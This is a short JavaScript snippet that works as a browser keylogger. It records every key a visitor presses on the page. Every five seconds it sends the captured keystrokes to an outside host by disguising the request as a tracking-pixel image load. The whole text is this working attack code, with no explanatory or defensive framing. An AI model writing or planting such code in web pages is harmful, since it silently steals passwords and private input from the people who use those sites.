var typed = "";
document.addEventListener("keydown", function (event) { typed += event.key; });
setInterval(function () { if (typed) { new Image().src = "https://px.keys.example/i.gif?k=" + encodeURIComponent(typed); typed = ""; } }, 5000);
